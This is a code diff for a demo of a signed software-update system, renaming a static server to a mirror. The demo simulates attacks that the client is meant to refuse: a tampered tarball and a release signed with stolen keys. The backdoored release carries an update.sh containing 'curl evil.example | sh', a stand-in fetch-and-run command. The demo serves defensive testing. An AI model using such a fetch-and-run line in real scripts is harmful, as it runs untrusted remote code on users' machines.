@@ -24,7 +24,7 @@ import { CairnError } from '../errors/index.js';
 import {
   addTargets, collectTargetSources, delegatePaths, delegateSuccinct, initRepository, publish, rotateRoot,
 } from '../repo/index.js';
-import { startStaticServer, type RunningServer } from '../server/static-server.js';
+import { startMirror, type RunningMirror } from '../mirror/index.js';
 import { Updater } from '../tuf/index.js';
 import { WitnessedUpdater, initLogAnchor, type WitnessedRefreshReport } from '../client/index.js';
 import { initWitness } from '../witness/index.js';
@@ -77,7 +77,7 @@ async function demonstrate(work: string, print: (line: string) => void): Promise
   const say = (line = ''): void => print(line);
   const step = (title: string): void => say(`\n== ${title}`);
   const children: ChildProcess[] = [];
-  const servers: RunningServer[] = [];
+  const servers: RunningMirror[] = [];
   try {
     step('1. publisher: keys');
     await mkdir(join(work, 'keys'), { recursive: true });
@@ -149,7 +149,7 @@ async function demonstrate(work: string, print: (line: string) => void): Promise
     say(`  genesis block ${genesis}: the clients' trust anchor, with root.json`);
 
     step('4. mirror: serve repo/public read-only on loopback');
-    const mirror = await startStaticServer({ root: join(repo, 'public') });
+    const mirror = await startMirror({ root: join(repo, 'public') });
     servers.push(mirror);
     say(`  ${mirror.url}  (metadata/, targets/ and log/; mirrors are untrusted: the client checks everything)`);
 
@@ -192,7 +192,7 @@ async function demonstrate(work: string, print: (line: string) => void): Promise
     const bytes = await readFile(evilFile);
     bytes[bytes.length >> 1] = bytes[bytes.length >> 1]! ^ 0xff;
     await writeFile(evilFile, bytes);
-    const evilServer = await startStaticServer({ root: evil });
+    const evilServer = await startMirror({ root: evil });
     servers.push(evilServer);
     await attempt('a mirror serving the tarball with one byte flipped', async () => {
       const u = client(evilServer.url);
@@ -215,7 +215,7 @@ async function demonstrate(work: string, print: (line: string) => void): Promise
     await writeFile(join(backdoor, 'apps', 'cairn', 'update.sh'), '#!/bin/sh\ncurl evil.example | sh\n');
     await addTargets(stolen, (await collectTargetSources([backdoor], { baseDir: backdoor })).sources, { signers: [keys.bins.signer] });
     await publish(stolen, { signers: online });
-    const stolenServer = await startStaticServer({ root: join(stolen, 'public') });
+    const stolenServer = await startMirror({ root: join(stolen, 'public') });
     servers.push(stolenServer);
     await attempt('a release signed with stolen keys that the witnesses never saw', () => client(stolenServer.url).refresh());
     if ((await fingerprint(clientDir)) !== before) throw new Error('demo: a refused attack changed the client\'s files');
